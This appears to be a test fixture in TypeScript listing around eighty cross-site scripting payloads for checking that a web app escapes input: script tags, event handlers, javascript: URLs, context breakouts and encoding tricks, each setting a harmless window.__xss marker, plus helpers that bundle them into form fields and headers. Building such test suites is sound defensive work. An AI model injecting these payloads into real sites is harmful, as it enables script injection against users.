/**
 * Texts that run a script wherever they are put into a page unescaped: in text, attributes, URLs, raw-text elements, comments
 * and through parsers that repair or decode. Each would set `window.__xss` or open a dialog. Shorter than the shortest field.
 */
const RUN = 'window.__xss=1';

export const XSS: readonly string[] = [
  // Elements that run by themselves.
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script/x>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"`,
  `<img/src=x/onerror=${RUN}//`,
  `<img src="x\` onerror=${RUN}>`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<template><script>${RUN}</script></template>`,
  `<x-y onpointerenter=${RUN} style="position:fixed;inset:0">`,
  // Out of where the text stands.
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" autofocus onfocus="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `\` onmouseover=${RUN} x=\``,
  `x onerror=${RUN} y=`,
  `--><script>${RUN}</script><!--`,
  `--!><img src=x onerror=${RUN}>`,
  `]]><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `</pre></blockquote><img src=x onerror=${RUN}>`,
  `';${RUN};//`,
  `";${RUN};//\\";${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `</script>\u2028${RUN}\u2029`,
  // URLs.
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://x%0a${RUN}`,
  `data:text/html,<script>parent.__xss=1</script>`,
  `//evil.example/\\"><script>${RUN}</script>`,
  // Decoded one time too often, or by another alphabet.
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u202e<img src=x onerror=${RUN}>\u202c`,
  `<\u200bscript>${RUN}</script>`,
  `<scr\u0001ipt>${RUN}</scr\u0001ipt>`,
];

/** The shortest field holds 200 characters; some are for the tag that tells the field. */
const ROOM = 180;

/** The texts as they are planted: as many in a row as a field holds, so that a record for each bundle plants them all. */
export function bundled(texts: readonly string[]): readonly string[] {
  const bundles: string[] = [];
  for (const text of texts) {
    const joined = `${bundles.at(-1)} ${text}`;
    // What is read as a URL must stand first.
    if (bundles.length > 0 && joined.length <= ROOM && !/^\W*[a-z\t]+:/i.test(text)) bundles.splice(-1, 1, joined);
    else bundles.push(text);
  }
  return bundles;
}

/** Those that a header can carry. */
export const HEADER_XSS = XSS.filter((text) => /^[ -~]+$/.test(text));
